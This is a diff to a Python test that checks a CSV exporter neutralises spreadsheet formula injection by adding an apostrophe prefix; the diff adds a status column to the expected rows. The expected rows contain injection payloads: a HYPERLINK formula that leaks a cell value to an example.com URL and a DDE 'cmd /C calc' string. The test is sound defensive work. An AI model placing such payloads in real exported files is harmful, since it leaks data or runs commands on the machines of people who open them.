@@ -37,14 +37,14 @@ def test_formula_cells_are_quoted_with_an_apostrophe(spec: DatasetSpec, tmp_path
     export(_aliases(spec, tmp_path), tmp_path / "out", "csv", "1.0.0")
     data = (tmp_path / "out" / "entity_aliases.csv").read_bytes()
     assert data == (
-        b"entity,position,alias\r\n"
-        b'person:soldier-a,0,"\'=1+1"\r\n'
-        b'person:soldier-a,1,"\'=HYPERLINK(""http://example.com/x?leak=""&A1,""click"")"\r\n'
-        b"person:soldier-a,2,\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"
-        b'person:soldier-a,3,"\'+1+1"\r\n'
-        b'person:soldier-a,4,"\'-1+1"\r\n'
-        b'person:soldier-a,5,"\'\t=1+1"\r\n'
-        b'person:soldier-a,6,"\'\r=1+1"\r\n'
+        b"entity,position,status,alias\r\n"
+        b'person:soldier-a,0,active,"\'=1+1"\r\n'
+        b'person:soldier-a,1,active,"\'=HYPERLINK(""http://example.com/x?leak=""&A1,""click"")"\r\n'
+        b"person:soldier-a,2,active,\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"
+        b'person:soldier-a,3,active,"\'+1+1"\r\n'
+        b'person:soldier-a,4,active,"\'-1+1"\r\n'
+        b'person:soldier-a,5,active,"\'\t=1+1"\r\n'
+        b'person:soldier-a,6,active,"\'\r=1+1"\r\n'
     )
     with (tmp_path / "out" / "entity_aliases.csv").open(encoding="utf-8", newline="") as stream:
         read = [row["alias"] for row in csv.DictReader(stream)]
